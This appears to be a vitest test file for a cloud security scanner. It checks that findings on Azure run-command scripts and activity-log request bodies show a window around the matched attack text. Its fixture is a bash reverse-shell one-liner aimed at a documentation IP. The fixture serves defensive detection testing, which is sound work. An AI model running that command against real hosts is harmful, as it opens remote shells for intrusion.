/**
 * A long payload or matched value is shown as a window around what the rule found, with
 * `truncated: true`, its length and where the window starts (not its head, which may hold
 * nothing of the attack).
 */
import { describe, expect, it } from "vitest";
import { PAYLOAD_EXCERPT_CHARS } from "../../src/engine/grouping.js";
import { excerpt } from "../../src/matcher/locate.js";
import { tableFormat } from "../../src/outputs/formats/table.js";
import { renderToString } from "../../src/outputs/index.js";
import { runCase } from "../../src/rules/tester.js";
import { evidenceOf, packRule } from "../helpers.js";
import { makeResult } from "../outputs/fixtures.js";

const reverseShell = await packRule("Recovered payload opens a reverse shell");
const customData = await packRule("VM or scale set written with customData or userData");

const VM =
  "/subscriptions/00000000-0000-0000-0000-000000000001/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/vm1";
const SHELL = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1";
const filler = (n: number) => "echo routine maintenance step; sleep 1\n".repeat(Math.ceil(n / 39)).slice(0, n);

function runCommandResource(script: string) {
  return {
    id: `${VM}/runCommands/update-agent`,
    name: "update-agent",
    type: "Microsoft.Compute/virtualMachines/runCommands",
    properties: { source: { script } },
  };
}

describe("payload excerpts keep the matched part visible", () => {
  it("a 20,000-character script whose reverse shell is near its end shows a window around it", () => {
    const script = `#!/bin/bash\n${filler(18_000)}${SHELL}\n${filler(1_000)}`;
    const { findings } = runCase(reverseShell, [runCommandResource(script)]);
    expect(findings).toHaveLength(1);
    const p = evidenceOf(findings[0], "payload").payloads[0];
    expect(p?.truncated).toBe(true);
    expect(p?.length).toBe(script.length);
    expect(p?.content.length).toBeLessThanOrEqual(PAYLOAD_EXCERPT_CHARS);
    expect(p?.content).toContain(SHELL);
    expect(script.slice(p?.offset ?? -1, (p?.offset ?? 0) + (p?.content.length ?? 0))).toBe(p?.content);
  });

  it("names the part the rule found, and the table's one line shows it, not the script's head", async () => {
    // Under the 4,096-character window, so the content is whole, but far past one table line.
    const script = `#!/bin/bash\n${filler(3_000)}${SHELL}\n`;
    const { findings } = runCase(reverseShell, [runCommandResource(script)]);
    const p = evidenceOf(findings[0], "payload").payloads[0];
    expect(p?.truncated).toBe(false);
    expect(p?.content).toBe(script);
    expect(p?.found).toBeDefined();
    expect(p?.found).toContain(SHELL);
    const { result } = makeResult();
    const table = await renderToString(
      tableFormat,
      { ...result, findings },
      { toolVersion: "0", color: false, width: 400 },
    );
    const line = table.split("\n").find((l) => l.includes("properties.source.script")) ?? "";
    expect(line).toContain("/dev/tcp/203.0.113.9/4444");
    expect(line).toContain("…");
    expect(line).not.toContain("#!/bin/bash");
  });

  it("a short script is shown whole, not marked truncated", () => {
    const script = `#!/bin/bash\n${SHELL}\n`;
    const p = evidenceOf(runCase(reverseShell, [runCommandResource(script)]).findings[0], "payload").payloads[0];
    expect(p).toMatchObject({ content: script, truncated: false });
    expect(p?.length).toBeUndefined();
    expect(p?.offset).toBeUndefined();
  });
});

describe("matched values keep the matched part visible", () => {
  it("a long request body is cut around the rule's match, with its length and offset", () => {
    // Tags, then customData far past the 2,048 characters a matched value keeps.
    const tags = Object.fromEntries(Array.from({ length: 200 }, (_, i) => [`tag${i}`, `value-${i}`]));
    const body = JSON.stringify({ tags, properties: { osProfile: { customData: "I2Nsb3VkLWNvbmZpZwo=" } } });
    const records = [
      {
        operationName: { value: "Microsoft.Compute/virtualMachines/write" },
        eventDataId: "e1",
        eventTimestamp: "2026-11-02T10:00:00Z",
        status: { value: "Started" },
        resourceId: `${VM}`,
        properties: { requestbody: body },
      },
    ];
    const { findings } = runCase(customData, records);
    expect(findings).toHaveLength(1);
    const e = evidenceOf(findings[0], "activity");
    const shown = String(e.matched?.["properties.requestbody"]);
    expect(body.length).toBeGreaterThan(4000);
    expect(shown.length).toBeLessThanOrEqual(2048);
    expect(shown).toContain('"customData":"I2Nsb3VkLWNvbmZpZwo="');
    const cut = e.matchedTruncated?.["properties.requestbody"];
    expect(cut?.length).toBe(body.length);
    expect(body.slice(cut?.offset ?? -1, (cut?.offset ?? 0) + shown.length)).toBe(shown);
  });
});

describe("excerpt", () => {
  it("centres the span, clamps at both ends, and never splits a surrogate pair", () => {
    const s = "a".repeat(100);
    expect(excerpt(s, 200)).toEqual({ text: s, offset: 0, truncated: false });
    expect(excerpt(s, 10, [50, 52])).toEqual({ text: "a".repeat(10), offset: 46, truncated: true });
    expect(excerpt(s, 10, [0, 2]).offset).toBe(0);
    expect(excerpt(s, 10, [98, 100]).offset).toBe(90);
    expect(excerpt(s, 10).offset).toBe(0);
    const emoji = `${"b".repeat(9)}😀${"c".repeat(20)}`;
    const x = excerpt(emoji, 10);
    expect(x.text).toBe("b".repeat(9));
  });
});
